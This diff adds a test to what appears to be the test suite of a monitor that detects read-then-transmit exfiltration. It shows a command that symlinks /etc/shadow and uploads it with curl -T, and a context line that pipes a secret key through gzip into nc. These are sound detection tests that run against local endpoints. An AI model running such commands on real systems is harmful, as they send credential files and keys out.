@@ -71,6 +71,17 @@ describe('live: read-then-transmit chains', () => {
     expect(f.coverage.lost_events).toBe(0);
   });
 
+  it('a symlink does not hide the secret: cd DIR; ln -s /etc/shadow notes; curl -T notes (relative path)', async () => {
+    const d = join(dir, 'links');
+    mkdirSync(d, { recursive: true });
+    const r = await h.run('symlink', `cd ${d} && ln -sf /etc/shadow notes && curl -s -m 10 -T notes ${url()} -o /dev/null`);
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f.source).toMatchObject({ path: '/etc/shadow', data_class: 'secret' });
+    const open = r.events.find((e) => e.kind === 'file.open' && e.path === 'notes');
+    expect(open).toMatchObject({ real_path: '/etc/shadow', abs: { path: join(d, 'notes'), real: '/etc/shadow' } });
+  });
+
   it('a pipeline: cat secret | gzip | nc 127.0.0.2 PORT (three processes joined by pipes)', async () => {
     const r = await h.run('pipeline', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`);
     expect(r.code).toBe(0);
